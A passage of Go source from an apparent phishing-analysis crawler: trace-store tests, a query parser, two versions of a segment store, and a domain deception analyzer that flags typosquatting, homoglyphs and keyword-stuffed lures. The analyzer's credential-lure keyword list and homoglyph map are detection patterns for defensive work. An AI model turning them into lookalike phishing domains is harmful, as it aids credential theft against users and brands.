		"id=-4",              // non-positive id
		"limit=0",            // non-positive limit
		"outcome=x color=red",
	} {
		if _, err := ParseQuery(bad); err == nil {
			t.Errorf("ParseQuery(%q) accepted invalid input", bad)
		}
	}
	if _, err := ParseQuery("color=red"); err == nil || !strings.Contains(err.Error(), "valid keys") {
		t.Errorf("unknown-key error should list valid keys, got %v", err)
	}
}

func TestFinalizeRejectsDuplicateIDs(t *testing.T) {
	path := filepath.Join(t.TempDir(), "dup.tstore")
	w, err := Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w.Add(Verdict{ID: 7, Outcome: "error-page"})
	w.Add(Verdict{ID: 7, Outcome: "active-phishing"})
	if err := w.Finalize(nil, nil); err == nil || !strings.Contains(err.Error(), "duplicate") {
		t.Fatalf("Finalize with duplicate IDs: err = %v", err)
	}
}

func TestOpenRejectsUnfinalizedSegment(t *testing.T) {
	path := filepath.Join(t.TempDir(), "raw.tstore")
	ev, err := evstore.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ev.Append(evstore.KindVerdict, []byte(`{"id":1,"outcome":"error-page"}`)); err != nil {
		t.Fatal(err)
	}
	if err := ev.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(path); err == nil || !strings.Contains(err.Error(), "no index record") {
		t.Fatalf("Open on unfinalized segment: err = %v", err)
	}
}

func TestStoreNotFound(t *testing.T) {
	path := filepath.Join(t.TempDir(), "seg.tstore")
	writeSegment(t, path, Verdict{ID: 1, Outcome: "error-page"})
	st, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if _, err := st.Verdict(99); !errors.Is(err, ErrNotFound) {
		t.Errorf("Verdict(99): err = %v, want ErrNotFound", err)
	}
	if _, err := st.Readjudicate(99); !errors.Is(err, ErrNotFound) {
		t.Errorf("Readjudicate(99): err = %v, want ErrNotFound", err)
	}
}

// TestCompactOverlay pins the multi-segment merge rule: per trace ID the
// last source wins, survivors come out in ascending ID order, and metrics
// snapshots fold through the registry.
func TestCompactOverlay(t *testing.T) {
	dir := t.TempDir()
	base := filepath.Join(dir, "base.tstore")
	overlay := filepath.Join(dir, "overlay.tstore")
	out := filepath.Join(dir, "out.tstore")

	baseW, err := Create(base)
	if err != nil {
		t.Fatal(err)
	}
	baseW.Add(Verdict{ID: 1, Outcome: "error-page", ErrorKind: "network"})
	baseW.Add(Verdict{ID: 2, Outcome: "no-web-resource"})
	if err := baseW.Finalize(nil, []obs.Point{{Name: "runs_total", Type: "counter", Value: 1}}); err != nil {
		t.Fatal(err)
	}
	overlayW, err := Create(overlay)
	if err != nil {
		t.Fatal(err)
	}
	overlayW.Add(Verdict{ID: 2, Outcome: "active-phishing", Domain: "login.example"})
	overlayW.Add(Verdict{ID: 3, Outcome: "cloaked-benign"})
	if err := overlayW.Finalize(nil, []obs.Point{{Name: "runs_total", Type: "counter", Value: 1}}); err != nil {
		t.Fatal(err)
	}

	if err := Compact(out, base, overlay); err != nil {
		t.Fatal(err)
	}
	st, err := Open(out)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ids := st.IDs()
	if len(ids) != 3 || ids[0] != 1 || ids[1] != 2 || ids[2] != 3 {
		t.Fatalf("compacted ids = %v, want [1 2 3]", ids)
	}
	v2, err := st.Verdict(2)
	if err != nil {
		t.Fatal(err)
	}
	if v2.Outcome != "active-phishing" || v2.Domain != "login.example" {
		t.Errorf("id 2 after overlay compact = %+v, want the overlay row", v2)
	}
	points, err := st.Metrics()
	if err != nil {
		t.Fatal(err)
	}
	if len(points) != 1 || points[0].Name != "runs_total" || points[0].Value != 2 {
		t.Errorf("folded metrics = %+v, want runs_total=2", points)
	}
}

func TestVerdictOfFailedAnalysis(t *testing.T) {
	v := VerdictOf(5, nil, errors.New("boom"))
	if v.Outcome != OutcomeFailed || v.Err != "boom" || v.Adjudicable {
		t.Errorf("failed verdict = %+v", v)
	}
	r := ReadjudicateVerdict(v)
	if !r.Match || r.Outcome != OutcomeFailed {
		t.Errorf("failed re-adjudication = %+v, want carried-through match", r)
	}
}

// TestFederatedOpen pins the multi-segment Open: the federated view
// applies the same later-segment-wins overlay Compact does, so queries,
// verdict reads, stats, and metrics over Open(base, overlay) agree with a
// store compacted from the same segments.
func TestFederatedOpen(t *testing.T) {
	dir := t.TempDir()
	base := filepath.Join(dir, "base.tstore")
	overlay := filepath.Join(dir, "overlay.tstore")

	baseW, err := Create(base)
	if err != nil {
		t.Fatal(err)
	}
	baseW.Add(Verdict{ID: 1, Outcome: "error-page", ErrorKind: "network", Domain: "dead.example"})
	baseW.Add(Verdict{ID: 2, Outcome: "no-web-resource"})
	if err := baseW.Finalize(nil, []obs.Point{{Name: "runs_total", Type: "counter", Value: 1}}); err != nil {
		t.Fatal(err)
	}
	overlayW, err := Create(overlay)
	if err != nil {
		t.Fatal(err)
	}
	overlayW.Add(Verdict{ID: 2, Outcome: "active-phishing", Domain: "login.example", Adjudicable: true})
	overlayW.Add(Verdict{ID: 3, Outcome: "cloaked-benign"})
	if err := overlayW.Finalize(nil, []obs.Point{{Name: "runs_total", Type: "counter", Value: 1}}); err != nil {
		t.Fatal(err)
	}

	st, err := Open(base, overlay)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()

	ids := st.IDs()
	if len(ids) != 3 || ids[0] != 1 || ids[1] != 2 || ids[2] != 3 {
		t.Fatalf("federated ids = %v, want [1 2 3]", ids)
	}
	v2, err := st.Verdict(2)
	if err != nil {
		t.Fatal(err)
	}
	if v2.Outcome != "active-phishing" || v2.Domain != "login.example" {
		t.Errorf("id 2 = %+v, want the overlay row", v2)
	}

	// The base segment's postings for the shadowed row must not leak: id 2
	// is no longer no-web-resource.
	q, err := ParseQuery("outcome=no-web-resource")
	if err != nil {
		t.Fatal(err)
	}
	if verdicts, err := st.Query(q); err != nil || len(verdicts) != 0 {
		t.Errorf("shadowed posting leaked: %v (err %v)", verdicts, err)
	}
	q, err = ParseQuery("outcome=active-phishing")
	if err != nil {
		t.Fatal(err)
	}
	verdicts, err := st.Query(q)
	if err != nil || len(verdicts) != 1 || verdicts[0].ID != 2 {
		t.Errorf("overlay query = %v (err %v), want id 2", verdicts, err)
	}

	stats := st.Stats()
	if stats.Traces != 3 || stats.Segments != 2 || stats.Adjudicable != 1 {
		t.Errorf("stats = %+v", stats)
	}
	if stats.Outcomes["no-web-resource"] != 0 || stats.Outcomes["active-phishing"] != 1 {
		t.Errorf("stats outcomes = %+v", stats.Outcomes)
	}

	points, err := st.Metrics()
	if err != nil {
		t.Fatal(err)
	}
	if len(points) != 1 || points[0].Name != "runs_total" || points[0].Value != 2 {
		t.Errorf("folded metrics = %+v, want runs_total=2", points)
	}

	// Federated reads agree with the on-disk compaction of the same list.
	out := filepath.Join(dir, "out.tstore")
	if err := Compact(out, base, overlay); err != nil {
		t.Fatal(err)
	}
	cst, err := Open(out)
	if err != nil {
		t.Fatal(err)
	}
	defer cst.Close()
	for _, id := range ids {
		fv, err := st.Verdict(id)
		if err != nil {
			t.Fatal(err)
		}
		cv, err := cst.Verdict(id)
		if err != nil {
			t.Fatal(err)
		}
		if fv.Outcome != cv.Outcome || fv.ErrorKind != cv.ErrorKind || fv.Domain != cv.Domain {
			t.Errorf("id %d: federated %+v != compacted %+v", id, fv, cv)
		}
	}
}
