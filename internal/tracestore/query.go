package tracestore

import (
	"fmt"
	"sort"
	"strconv"
	"strings"
)

// Query is a parsed triage query: a conjunction of dimension=value terms
// plus the pseudo-terms id=N (direct lookup) and limit=N (result cap).
// The empty query matches every trace.
//
// Examples:
//
//	outcome=partial-evidence domain=login.example
//	stage=classify status=error
//	cloak=turnstile limit=10
type Query struct {
	terms []term
	id    int64
	limit int
	src   string
}

// term is one dimension=value conjunct.
type term struct {
	key   string
	value string
}

// queryDims are the indexed dimensions a term may use.
var queryDims = map[string]bool{
	dimDomain:      true,
	dimOutcome:     true,
	dimErrKind:     true,
	dimStage:       true,
	dimStatus:      true,
	dimCloak:       true,
	dimAdjudicable: true,
}

// validKeys renders the accepted key list for error messages, sorted.
func validKeys() string {
	keys := make([]string, 0, len(queryDims)+2)
	for k := range queryDims {
		keys = append(keys, k)
	}
	keys = append(keys, "id", "limit")
	sort.Strings(keys)
	return strings.Join(keys, ", ")
}

// ParseQuery parses a whitespace-separated list of key=value terms.
func ParseQuery(s string) (Query, error) {
	q := Query{src: strings.Join(strings.Fields(s), " ")}
	for _, field := range strings.Fields(s) {
		key, value, ok := strings.Cut(field, "=")
		if !ok || key == "" || value == "" {
			return Query{}, fmt.Errorf("tracestore: bad query term %q: want key=value (valid keys: %s)", field, validKeys())
		}
		switch key {
		case "id":
			id, err := strconv.ParseInt(value, 10, 64)
			if err != nil || id <= 0 {
				return Query{}, fmt.Errorf("tracestore: bad id %q: want a positive integer", value)
			}
			q.id = id
		case "limit":
			n, err := strconv.Atoi(value)
			if err != nil || n <= 0 {
				return Query{}, fmt.Errorf("tracestore: bad limit %q: want a positive integer", value)
			}
			q.limit = n
		default:
			if !queryDims[key] {
				return Query{}, fmt.Errorf("tracestore: unknown query key %q (valid keys: %s)", key, validKeys())
			}
			q.terms = append(q.terms, term{key: key, value: value})
		}
	}
	return q, nil
}

// String returns the normalized query text (terms in input order, single
// spaces).
func (q Query) String() string {
	if q.src == "" {
		return "(all)"
	}
	return q.src
}
