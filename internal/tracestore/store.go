package tracestore

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"sort"

	"crawlerbox/internal/evstore"
	"crawlerbox/internal/obs"
)

// ErrNotFound reports a trace ID absent from the segment.
var ErrNotFound = errors.New("tracestore: trace not found")

// segment is a read-only view over one finalized segment file. It loads
// only the trailing index record up front; span batches and verdict rows
// are read on demand through their handles (zero-copy on mmap-backed
// opens).
type segment struct {
	ev      *evstore.Store
	idx     segIndex
	locs    map[int64]TraceLoc
	metrics evstore.Handle
}

// Store is a read-only view over one or more finalized segments,
// federated under a later-segment-wins rule: when several segments hold
// the same trace ID, the segment listed last owns the row — the same
// overlay semantics Compact applies when folding segments on disk, so
// opening [base, rerun] and opening the compaction of [base, rerun] serve
// identical verdicts.
type Store struct {
	segs []*segment
	win  map[int64]int // trace ID -> index of the owning (last) segment
	ids  []int64       // federated, ascending
}

// Open opens one or more finalized segments as a single federated store.
// Each segment's record stream is scanned once to find its trailing
// KindTraceIndex (verifying every record's checksum on the way, so torn
// or corrupt segments fail here, loudly). Queries, checklists, and
// re-adjudication all see the federated later-segment-wins view.
func Open(paths ...string) (*Store, error) {
	if len(paths) == 0 {
		return nil, fmt.Errorf("tracestore: Open needs at least one segment path")
	}
	s := &Store{win: map[int64]int{}}
	for si, path := range paths {
		seg, err := openSegment(path)
		if err != nil {
			s.Close()
			return nil, err
		}
		s.segs = append(s.segs, seg)
		for _, loc := range seg.idx.Traces {
			s.win[loc.ID] = si
		}
	}
	s.ids = make([]int64, 0, len(s.win))
	//cblint:ignore maprange keys are collected then sorted on the next line
	for id := range s.win {
		s.ids = append(s.ids, id)
	}
	sort.Slice(s.ids, func(i, j int) bool { return s.ids[i] < s.ids[j] })
	return s, nil
}

// openSegment opens and index-loads one segment file.
func openSegment(path string) (*segment, error) {
	ev, err := evstore.Open(path)
	if err != nil {
		return nil, err
	}
	seg := &segment{ev: ev, locs: map[int64]TraceLoc{}}
	var idxPayload []byte
	scanErr := ev.Each(func(h evstore.Handle, kind evstore.Kind, payload []byte) bool {
		switch kind {
		case evstore.KindTraceIndex:
			idxPayload = append(idxPayload[:0], payload...)
		case evstore.KindMetrics:
			seg.metrics = h
		}
		return true
	})
	if scanErr != nil {
		ev.Close()
		return nil, fmt.Errorf("tracestore: %s: %w", path, scanErr)
	}
	if idxPayload == nil {
		ev.Close()
		return nil, fmt.Errorf("tracestore: %s: no index record (segment not finalized?)", path)
	}
	if err := json.Unmarshal(idxPayload, &seg.idx); err != nil {
		ev.Close()
		return nil, fmt.Errorf("tracestore: %s: bad index: %w", path, err)
	}
	if seg.idx.Version != Version {
		ev.Close()
		return nil, fmt.Errorf("tracestore: %s: index version %d, want %d", path, seg.idx.Version, Version)
	}
	for _, loc := range seg.idx.Traces {
		seg.locs[loc.ID] = loc
	}
	return seg, nil
}

// Close releases every underlying segment.
func (s *Store) Close() error {
	var first error
	for _, seg := range s.segs {
		if err := seg.ev.Close(); err != nil && first == nil {
			first = err
		}
	}
	s.segs = nil
	return first
}

// IDs returns every federated trace ID, ascending.
func (s *Store) IDs() []int64 { return append([]int64(nil), s.ids...) }

// Len returns the number of federated traces.
func (s *Store) Len() int { return len(s.ids) }

// owner resolves a trace ID to its winning segment.
func (s *Store) owner(id int64) (*segment, bool) {
	si, ok := s.win[id]
	if !ok {
		return nil, false
	}
	return s.segs[si], true
}

// Verdict reads one verdict row from the ID's winning segment.
func (s *Store) Verdict(id int64) (Verdict, error) {
	seg, ok := s.owner(id)
	if !ok {
		return Verdict{}, fmt.Errorf("%w: id %d", ErrNotFound, id)
	}
	kind, payload, err := seg.ev.At(seg.locs[id].Verdict.handle())
	if err != nil {
		return Verdict{}, err
	}
	if kind != evstore.KindVerdict {
		return Verdict{}, fmt.Errorf("tracestore: id %d: record kind %d, want verdict", id, kind)
	}
	var v Verdict
	if err := json.Unmarshal(payload, &v); err != nil {
		return Verdict{}, fmt.Errorf("tracestore: id %d: bad verdict: %w", id, err)
	}
	return v, nil
}

// rawSpans returns the stored span-batch payload bytes (trace JSONL; empty
// when the run collected no trace for this message). The returned slice is
// a private copy.
func (s *Store) rawSpans(id int64) ([]byte, error) {
	seg, ok := s.owner(id)
	if !ok {
		return nil, fmt.Errorf("%w: id %d", ErrNotFound, id)
	}
	kind, payload, err := seg.ev.At(seg.locs[id].Spans.handle())
	if err != nil {
		return nil, err
	}
	if kind != evstore.KindSpanBatch {
		return nil, fmt.Errorf("tracestore: id %d: record kind %d, want span batch", id, kind)
	}
	return append([]byte(nil), payload...), nil
}

// Trace reads and validates one message's span tree. Returns (nil, nil)
// when the message has no stored trace.
func (s *Store) Trace(id int64) (*obs.Trace, error) {
	payload, err := s.rawSpans(id)
	if err != nil {
		return nil, err
	}
	if len(payload) == 0 {
		return nil, nil
	}
	traces, err := obs.ReadJSONL(bytes.NewReader(payload))
	if err != nil {
		return nil, fmt.Errorf("tracestore: id %d: %w", id, err)
	}
	if err := obs.ValidateTraces(traces); err != nil {
		return nil, fmt.Errorf("tracestore: id %d: %w", id, err)
	}
	if len(traces) != 1 {
		return nil, fmt.Errorf("tracestore: id %d: span batch holds %d traces, want 1", id, len(traces))
	}
	return traces[0], nil
}

// segMetrics reads one segment's metrics snapshot.
func (seg *segment) segMetrics() ([]obs.Point, error) {
	if !seg.metrics.Valid() {
		return nil, nil
	}
	kind, payload, err := seg.ev.At(seg.metrics)
	if err != nil {
		return nil, err
	}
	if kind != evstore.KindMetrics {
		return nil, fmt.Errorf("tracestore: metrics record kind %d", kind)
	}
	var points []obs.Point
	if err := json.Unmarshal(payload, &points); err != nil {
		return nil, fmt.Errorf("tracestore: bad metrics record: %w", err)
	}
	return points, nil
}

// Metrics returns the store's metrics snapshot. A single segment's points
// pass through unchanged; multiple segments fold through
// Registry.MergePoints — the same merge Compact applies on disk.
func (s *Store) Metrics() ([]obs.Point, error) {
	if len(s.segs) == 1 {
		return s.segs[0].segMetrics()
	}
	reg := obs.NewRegistry()
	for _, seg := range s.segs {
		points, err := seg.segMetrics()
		if err != nil {
			return nil, err
		}
		reg.MergePoints(points)
	}
	return reg.Snapshot(), nil
}

// postings resolves one "dim=value" key to its federated posting list:
// each segment's list filtered to the IDs that segment owns, merged
// ascending. For a single segment this is the raw list.
func (s *Store) postings(key string) []int64 {
	if len(s.segs) == 1 {
		return s.segs[0].idx.Postings[key]
	}
	var out []int64
	for si, seg := range s.segs {
		for _, id := range seg.idx.Postings[key] {
			if s.win[id] == si {
				out = append(out, id)
			}
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// Query runs a parsed query against the federated index and returns
// matching verdict rows in ascending trace-ID order.
func (s *Store) Query(q Query) ([]Verdict, error) {
	ids := s.queryIDs(q)
	out := make([]Verdict, 0, len(ids))
	for _, id := range ids {
		v, err := s.Verdict(id)
		if err != nil {
			return nil, err
		}
		out = append(out, v)
	}
	return out, nil
}

// queryIDs resolves a query to its matching trace IDs (ascending).
func (s *Store) queryIDs(q Query) []int64 {
	var ids []int64
	if q.id != 0 {
		if _, ok := s.win[q.id]; ok {
			ids = []int64{q.id}
		}
	} else {
		ids = s.ids
	}
	for _, t := range q.terms {
		ids = intersect(ids, s.postings(t.key+"="+t.value))
		if len(ids) == 0 {
			break
		}
	}
	if q.limit > 0 && len(ids) > q.limit {
		ids = ids[:q.limit]
	}
	return ids
}

// Readjudicate re-derives one message's verdict from its stored facts.
func (s *Store) Readjudicate(id int64) (Readjudication, error) {
	v, err := s.Verdict(id)
	if err != nil {
		return Readjudication{}, err
	}
	return ReadjudicateVerdict(v), nil
}

// Stats summarizes a store for the triage server's landing endpoint.
type Stats struct {
	Traces       int            `json:"traces"`
	Segments     int            `json:"segments"`
	Adjudicable  int            `json:"adjudicable"`
	Outcomes     map[string]int `json:"outcomes,omitempty"`
	Domains      int            `json:"domains"`
	IndexEntries int            `json:"index_entries"`
	Bytes        int64          `json:"bytes"`
}

// Stats computes store-level tallies from the indexes alone (no record
// reads). Multi-segment tallies count each trace once, under its winning
// segment's dimensions.
func (s *Store) Stats() Stats {
	st := Stats{
		Traces:   len(s.ids),
		Segments: len(s.segs),
		Outcomes: map[string]int{},
	}
	keys := map[string]bool{}
	for _, seg := range s.segs {
		st.Bytes += seg.ev.Size()
		//cblint:ignore maprange collecting a key set is order-independent
		for key := range seg.idx.Postings {
			keys[key] = true
		}
	}
	//cblint:ignore maprange every write is order-independent (commutative tallies, distinct keys)
	for key := range keys {
		list := s.postings(key)
		if len(list) == 0 {
			continue
		}
		st.IndexEntries++
		if len(key) > len(dimOutcome)+1 && key[:len(dimOutcome)+1] == dimOutcome+"=" {
			st.Outcomes[key[len(dimOutcome)+1:]] = len(list)
		}
		if len(key) > len(dimDomain)+1 && key[:len(dimDomain)+1] == dimDomain+"=" {
			st.Domains++
		}
	}
	st.Adjudicable = len(s.postings(dimAdjudicable + "=true"))
	return st
}
