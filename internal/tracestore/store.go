package tracestore

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"

	"crawlerbox/internal/evstore"
	"crawlerbox/internal/obs"
)

// ErrNotFound reports a trace ID absent from the segment.
var ErrNotFound = errors.New("tracestore: trace not found")

// Store is a read-only view over one finalized segment. It loads only the
// trailing index record up front; span batches and verdict rows are read
// on demand through their handles (zero-copy on mmap-backed opens).
type Store struct {
	ev      *evstore.Store
	idx     segIndex
	locs    map[int64]TraceLoc
	ids     []int64 // ascending
	metrics evstore.Handle
}

// Open opens a finalized segment. It scans the record stream once to find
// the trailing KindTraceIndex (verifying every record's checksum on the
// way, so torn or corrupt segments fail here, loudly) and keeps the last
// index and metrics records — the freshest finalized state.
func Open(path string) (*Store, error) {
	ev, err := evstore.Open(path)
	if err != nil {
		return nil, err
	}
	s := &Store{ev: ev, locs: map[int64]TraceLoc{}}
	var idxPayload []byte
	scanErr := ev.Each(func(h evstore.Handle, kind evstore.Kind, payload []byte) bool {
		switch kind {
		case evstore.KindTraceIndex:
			idxPayload = append(idxPayload[:0], payload...)
		case evstore.KindMetrics:
			s.metrics = h
		}
		return true
	})
	if scanErr != nil {
		ev.Close()
		return nil, fmt.Errorf("tracestore: %s: %w", path, scanErr)
	}
	if idxPayload == nil {
		ev.Close()
		return nil, fmt.Errorf("tracestore: %s: no index record (segment not finalized?)", path)
	}
	if err := json.Unmarshal(idxPayload, &s.idx); err != nil {
		ev.Close()
		return nil, fmt.Errorf("tracestore: %s: bad index: %w", path, err)
	}
	if s.idx.Version != Version {
		ev.Close()
		return nil, fmt.Errorf("tracestore: %s: index version %d, want %d", path, s.idx.Version, Version)
	}
	for _, loc := range s.idx.Traces {
		s.locs[loc.ID] = loc
		s.ids = append(s.ids, loc.ID)
	}
	return s, nil
}

// Close releases the underlying segment.
func (s *Store) Close() error { return s.ev.Close() }

// IDs returns every trace ID in the segment, ascending.
func (s *Store) IDs() []int64 { return append([]int64(nil), s.ids...) }

// Len returns the number of indexed traces.
func (s *Store) Len() int { return len(s.ids) }

// Verdict reads one verdict row.
func (s *Store) Verdict(id int64) (Verdict, error) {
	loc, ok := s.locs[id]
	if !ok {
		return Verdict{}, fmt.Errorf("%w: id %d", ErrNotFound, id)
	}
	kind, payload, err := s.ev.At(loc.Verdict.handle())
	if err != nil {
		return Verdict{}, err
	}
	if kind != evstore.KindVerdict {
		return Verdict{}, fmt.Errorf("tracestore: id %d: record kind %d, want verdict", id, kind)
	}
	var v Verdict
	if err := json.Unmarshal(payload, &v); err != nil {
		return Verdict{}, fmt.Errorf("tracestore: id %d: bad verdict: %w", id, err)
	}
	return v, nil
}

// rawSpans returns the stored span-batch payload bytes (trace JSONL; empty
// when the run collected no trace for this message). The returned slice is
// a private copy.
func (s *Store) rawSpans(id int64) ([]byte, error) {
	loc, ok := s.locs[id]
	if !ok {
		return nil, fmt.Errorf("%w: id %d", ErrNotFound, id)
	}
	kind, payload, err := s.ev.At(loc.Spans.handle())
	if err != nil {
		return nil, err
	}
	if kind != evstore.KindSpanBatch {
		return nil, fmt.Errorf("tracestore: id %d: record kind %d, want span batch", id, kind)
	}
	return append([]byte(nil), payload...), nil
}

// Trace reads and validates one message's span tree. Returns (nil, nil)
// when the message has no stored trace.
func (s *Store) Trace(id int64) (*obs.Trace, error) {
	payload, err := s.rawSpans(id)
	if err != nil {
		return nil, err
	}
	if len(payload) == 0 {
		return nil, nil
	}
	traces, err := obs.ReadJSONL(bytes.NewReader(payload))
	if err != nil {
		return nil, fmt.Errorf("tracestore: id %d: %w", id, err)
	}
	if err := obs.ValidateTraces(traces); err != nil {
		return nil, fmt.Errorf("tracestore: id %d: %w", id, err)
	}
	if len(traces) != 1 {
		return nil, fmt.Errorf("tracestore: id %d: span batch holds %d traces, want 1", id, len(traces))
	}
	return traces[0], nil
}

// Metrics returns the segment's metrics snapshot.
func (s *Store) Metrics() ([]obs.Point, error) {
	if !s.metrics.Valid() {
		return nil, nil
	}
	kind, payload, err := s.ev.At(s.metrics)
	if err != nil {
		return nil, err
	}
	if kind != evstore.KindMetrics {
		return nil, fmt.Errorf("tracestore: metrics record kind %d", kind)
	}
	var points []obs.Point
	if err := json.Unmarshal(payload, &points); err != nil {
		return nil, fmt.Errorf("tracestore: bad metrics record: %w", err)
	}
	return points, nil
}

// Query runs a parsed query against the index and returns matching verdict
// rows in ascending trace-ID order.
func (s *Store) Query(q Query) ([]Verdict, error) {
	ids := s.queryIDs(q)
	out := make([]Verdict, 0, len(ids))
	for _, id := range ids {
		v, err := s.Verdict(id)
		if err != nil {
			return nil, err
		}
		out = append(out, v)
	}
	return out, nil
}

// queryIDs resolves a query to its matching trace IDs (ascending).
func (s *Store) queryIDs(q Query) []int64 {
	var ids []int64
	if q.id != 0 {
		if _, ok := s.locs[q.id]; ok {
			ids = []int64{q.id}
		}
	} else {
		ids = s.ids
	}
	for _, t := range q.terms {
		ids = intersect(ids, s.idx.Postings[t.key+"="+t.value])
		if len(ids) == 0 {
			break
		}
	}
	if q.limit > 0 && len(ids) > q.limit {
		ids = ids[:q.limit]
	}
	return ids
}

// Readjudicate re-derives one message's verdict from its stored facts.
func (s *Store) Readjudicate(id int64) (Readjudication, error) {
	v, err := s.Verdict(id)
	if err != nil {
		return Readjudication{}, err
	}
	return ReadjudicateVerdict(v), nil
}

// Stats summarizes a segment for the triage server's landing endpoint.
type Stats struct {
	Traces       int            `json:"traces"`
	Adjudicable  int            `json:"adjudicable"`
	Outcomes     map[string]int `json:"outcomes,omitempty"`
	Domains      int            `json:"domains"`
	IndexEntries int            `json:"index_entries"`
	Bytes        int64          `json:"bytes"`
}

// Stats computes segment-level tallies from the index alone (no record
// reads).
func (s *Store) Stats() Stats {
	st := Stats{
		Traces:   len(s.ids),
		Outcomes: map[string]int{},
		Bytes:    s.ev.Size(),
	}
	//cblint:ignore maprange every write is order-independent (commutative tallies, distinct keys)
	for key, list := range s.idx.Postings {
		st.IndexEntries++
		if len(key) > len(dimOutcome)+1 && key[:len(dimOutcome)+1] == dimOutcome+"=" {
			st.Outcomes[key[len(dimOutcome)+1:]] = len(list)
		}
		if len(key) > len(dimDomain)+1 && key[:len(dimDomain)+1] == dimDomain+"=" {
			st.Domains++
		}
	}
	st.Adjudicable = len(s.idx.Postings[dimAdjudicable+"=true"])
	return st
}
