package urlx

import (
	"strings"
)

// DeceptionTechnique identifies a deceptive domain-syntax trick.
type DeceptionTechnique int

// The deceptive techniques the paper measures on landing domains
// (Section V-A: only 15.7% of spear-phishing domains used any of them).
const (
	DeceptionTyposquatting DeceptionTechnique = iota + 1
	DeceptionCombosquatting
	DeceptionTargetEmbedding
	DeceptionHomoglyph
	DeceptionKeywordStuffing
	DeceptionPunycode
)

// String returns the technique name.
func (d DeceptionTechnique) String() string {
	switch d {
	case DeceptionTyposquatting:
		return "typosquatting"
	case DeceptionCombosquatting:
		return "combosquatting"
	case DeceptionTargetEmbedding:
		return "target-embedding"
	case DeceptionHomoglyph:
		return "homoglyph"
	case DeceptionKeywordStuffing:
		return "keyword-stuffing"
	case DeceptionPunycode:
		return "punycode"
	default:
		return "unknown"
	}
}

// _phishKeywords are generic credential-lure tokens used to detect keyword
// stuffing (domains packed with security-themed words).
var _phishKeywords = []string{
	"login", "signin", "sign-in", "secure", "security", "verify",
	"verification", "account", "update", "auth", "authenticate",
	"password", "webmail", "support", "confirm", "billing", "portal",
}

// _homoglyphs maps confusable characters to the ASCII letters they imitate.
var _homoglyphs = map[rune]rune{
	'0': 'o', '1': 'l', '3': 'e', '4': 'a', '5': 's', '7': 't',
	'а': 'a', 'е': 'e', 'о': 'o', 'р': 'p', 'с': 'c', 'х': 'x', // Cyrillic
	'ı': 'i', 'ö': 'o', 'ü': 'u', 'é': 'e', 'è': 'e', 'à': 'a',
}

// DeceptionAnalyzer detects deceptive syntax relative to a set of protected
// brand names (e.g., the five companies under study plus impersonated SaaS
// brands such as "microsoft" or "docusign").
type DeceptionAnalyzer struct {
	brands []string
}

// NewDeceptionAnalyzer returns an analyzer for the given brand tokens.
// Brands are matched case-insensitively.
func NewDeceptionAnalyzer(brands []string) *DeceptionAnalyzer {
	lowered := make([]string, 0, len(brands))
	for _, b := range brands {
		b = strings.ToLower(strings.TrimSpace(b))
		if b != "" {
			lowered = append(lowered, b)
		}
	}
	return &DeceptionAnalyzer{brands: lowered}
}

// Analyze reports every deceptive technique detected in host.
func (a *DeceptionAnalyzer) Analyze(host string) []DeceptionTechnique {
	host = strings.ToLower(host)
	d := ParseDomain(host)
	var found []DeceptionTechnique
	if a.isPunycode(host) {
		found = append(found, DeceptionPunycode)
	}
	core := registrableCore(d.Registrable)
	if a.isTyposquat(core) {
		found = append(found, DeceptionTyposquatting)
	}
	if a.isCombosquat(core) {
		found = append(found, DeceptionCombosquatting)
	}
	if a.isTargetEmbedding(host, d) {
		found = append(found, DeceptionTargetEmbedding)
	}
	if a.isHomoglyph(core) {
		found = append(found, DeceptionHomoglyph)
	}
	if a.isKeywordStuffing(core) {
		found = append(found, DeceptionKeywordStuffing)
	}
	return found
}

// IsDeceptive reports whether any technique was detected.
func (a *DeceptionAnalyzer) IsDeceptive(host string) bool {
	return len(a.Analyze(host)) > 0
}

// registrableCore strips the TLD from a registrable domain:
// "evil-site.co.uk" -> "evil-site".
func registrableCore(registrable string) string {
	if idx := strings.IndexByte(registrable, '.'); idx >= 0 {
		return registrable[:idx]
	}
	return registrable
}

func (a *DeceptionAnalyzer) isPunycode(host string) bool {
	for _, label := range strings.Split(host, ".") {
		if strings.HasPrefix(label, "xn--") {
			return true
		}
	}
	return false
}

// isTyposquat detects edit-distance-1 misspellings of a brand in the
// registrable core, excluding exact brand matches (which are legitimate).
func (a *DeceptionAnalyzer) isTyposquat(core string) bool {
	for _, b := range a.brands {
		if core == b {
			continue
		}
		if len(b) >= 4 && levenshtein(core, b) == 1 {
			return true
		}
	}
	return false
}

// isCombosquat detects a full brand token combined with extra words in the
// registrable core, e.g. "acmetravel-login".
func (a *DeceptionAnalyzer) isCombosquat(core string) bool {
	for _, b := range a.brands {
		if core == b || len(b) < 4 {
			continue
		}
		if strings.Contains(core, b) && len(core) > len(b) {
			return true
		}
	}
	return false
}

// isTargetEmbedding detects the brand appearing as a subdomain label of an
// unrelated registrable domain, e.g. "acmetravel.evil-host.com".
func (a *DeceptionAnalyzer) isTargetEmbedding(host string, d Domain) bool {
	if d.Registrable == "" || host == d.Registrable {
		return false
	}
	sub := strings.TrimSuffix(host, "."+d.Registrable)
	if sub == host {
		return false
	}
	core := registrableCore(d.Registrable)
	for _, b := range a.brands {
		if len(b) < 4 || strings.Contains(core, b) {
			continue // brand in the registrable part is combosquatting instead
		}
		for _, label := range strings.Split(sub, ".") {
			if strings.Contains(label, b) {
				return true
			}
		}
	}
	return false
}

// isHomoglyph detects confusable-character substitutions of a brand.
func (a *DeceptionAnalyzer) isHomoglyph(core string) bool {
	normalized := normalizeHomoglyphs(core)
	if normalized == core {
		return false
	}
	for _, b := range a.brands {
		if len(b) < 4 {
			continue
		}
		if normalized == b || strings.Contains(normalized, b) ||
			levenshtein(normalized, b) == 1 {
			return true
		}
	}
	return false
}

func normalizeHomoglyphs(s string) string {
	var sb strings.Builder
	sb.Grow(len(s))
	for _, r := range s {
		if repl, ok := _homoglyphs[r]; ok {
			sb.WriteRune(repl)
		} else {
			sb.WriteRune(r)
		}
	}
	return sb.String()
}

// isKeywordStuffing detects two or more distinct phishing keywords in the
